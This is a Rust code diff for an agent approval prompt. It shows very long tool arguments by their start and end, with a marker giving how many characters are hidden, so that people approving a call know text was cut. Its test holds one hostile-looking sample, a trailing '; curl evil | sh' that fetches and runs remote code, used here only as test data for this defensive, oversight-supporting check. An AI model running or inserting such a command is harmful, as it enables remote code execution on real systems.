@@ -154,6 +154,28 @@ impl Approver {
     }
 }
 
+/// Longest argument text shown.
+const MAX_SHOWN_ARGS: usize = 4096;
+
+/// `text`, or its start and end around a marker that says how much is hidden:
+/// a person must never approve text they were not told was cut.
+fn shown(text: &str) -> String {
+    let count = text.chars().count();
+    if count <= MAX_SHOWN_ARGS {
+        return text.to_string();
+    }
+    let half = MAX_SHOWN_ARGS / 2;
+    let head: String = text.chars().take(half).collect();
+    let tail: String = text.chars().skip(count - half).collect();
+    format!("{head}\n[… {} characters NOT SHOWN: answer no unless you trust all of it …]\n{tail}", count - 2 * half)
+}
+
+/// The arguments as a person should see them before approving: pretty JSON,
+/// terminal escapes removed, the middle of very long text cut with a marker.
+pub fn arguments_text(args: &serde_json::Value) -> String {
+    shown(&crate::shape::sanitize_str(&serde_json::to_string_pretty(args).unwrap_or_default()))
+}
+
 fn required_message(req: &Request<'_>) -> String {
     format!(
         "{} needs approval (tier {}) and nobody could answer: run with a terminal, pass --approve yes \
@@ -190,6 +212,16 @@ mod tests {
         a.grant("write_file", Some("h2"));
         assert_eq!(a.approve(&req(Tier::Confirm, &args, "h2")), Verdict::Approved(ApprovedBy::Grant));
         assert!(matches!(a.approve(&req(Tier::Confirm, &args, "h3")), Verdict::Required(_)));
+    }
+
+    #[test]
+    fn long_arguments_show_both_ends_and_say_what_is_hidden() {
+        assert_eq!(shown("short"), "short");
+        let long = format!("{}MIDDLE{}; curl evil | sh", "a".repeat(5000), "b".repeat(5000));
+        let s = shown(&long);
+        assert!(s.ends_with("; curl evil | sh"), "{s}");
+        assert!(s.contains("[… 5926 characters NOT SHOWN"), "{s}");
+        assert!(!s.contains("MIDDLE"));
     }
 
     #[test]
